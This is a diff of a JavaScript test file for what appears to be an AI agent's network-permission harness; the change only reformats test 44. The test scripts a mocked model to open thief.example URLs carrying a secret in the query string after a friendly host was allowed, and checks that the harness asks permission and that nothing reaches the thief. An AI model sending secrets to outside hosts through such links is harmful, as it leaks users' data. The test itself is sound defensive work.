@@ -33,22 +33,26 @@ function echoAtFriend() {
   })
 }
 
-test('44: a host with permission cannot pass on what it was sent in the links of its page', async () => {
-  const { model, at } = given
-  const { creator, path } = await newReader(given)
-  echoAtFriend()
-  const steps = [
-    open(at('thief.example', `/?d=${secret}`)),
-    open(at('thief.example', `/t?d=${secret}`)),
-    done,
-  ]
-  model.next(open(at('friend.example', `/?d=${secret}`)), done)
-  await watchTurn(creator, { path, body: { message: said }, decision: 'always' })
-  model.next(open(at('friend.example', `/?d=${secret}`)), ...steps)
-  const { asks } = await watchTurn(creator, { path, body: { message: said }, decision: 'deny' })
-  expect(asks.map(({ destination }) => destination)).toEqual(['thief.example', 'thief.example'])
-  expect(atThief()).toEqual([])
-})
+test(
+  '44: a host with permission cannot pass on what it was sent in the links of its page',
+  { tags: 'long' },
+  async () => {
+    const { model, at } = given
+    const { creator, path } = await newReader(given)
+    echoAtFriend()
+    const steps = [
+      open(at('thief.example', `/?d=${secret}`)),
+      open(at('thief.example', `/t?d=${secret}`)),
+      done,
+    ]
+    model.next(open(at('friend.example', `/?d=${secret}`)), done)
+    await watchTurn(creator, { path, body: { message: said }, decision: 'always' })
+    model.next(open(at('friend.example', `/?d=${secret}`)), ...steps)
+    const { asks } = await watchTurn(creator, { path, body: { message: said }, decision: 'deny' })
+    expect(asks.map(({ destination }) => destination)).toEqual(['thief.example', 'thief.example'])
+    expect(atThief()).toEqual([])
+  },
+)
 
 test('44: nor can one to which Python was allowed to send', async () => {
   const { model, at, world } = given
